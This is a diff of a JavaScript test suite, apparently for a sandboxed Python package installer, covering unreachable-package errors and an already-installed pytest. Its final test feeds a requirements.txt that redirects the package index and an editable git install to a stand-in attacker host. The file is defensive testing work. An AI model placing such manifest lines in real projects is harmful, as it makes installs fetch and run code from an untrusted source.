@@ -226,9 +226,18 @@ describe('a box without a way out', () => {
       manager: 'pip',
       manifests: {},
       lock: null,
-      packages: [{ name: 'pytest', range: '', dev: true }],
+      packages: [{ name: 'redgreen-no-such-package-7f3a', range: '', dev: true }],
     });
-    expect(wanted).toMatchObject({ deps: null, problems: [expect.stringMatching(/unittest/)] });
+    expect(wanted).toMatchObject({ deps: null, problems: [expect.stringMatching(/cannot be reached|pip is not installed/)] });
+    if (await python.hasModule('pytest')) {
+      const present = await python.install({
+        manager: 'pip',
+        manifests: {},
+        lock: null,
+        packages: [{ name: 'pytest', range: '>=1', dev: true }],
+      });
+      expect(present).toEqual({ deps: null, lock: null, problems: [] });
+    }
     const odd = await python.install({
       manager: 'pip',
       manifests: { 'requirements.txt': '--index-url https://evil.invalid\n-e git+https://evil.invalid/x' },
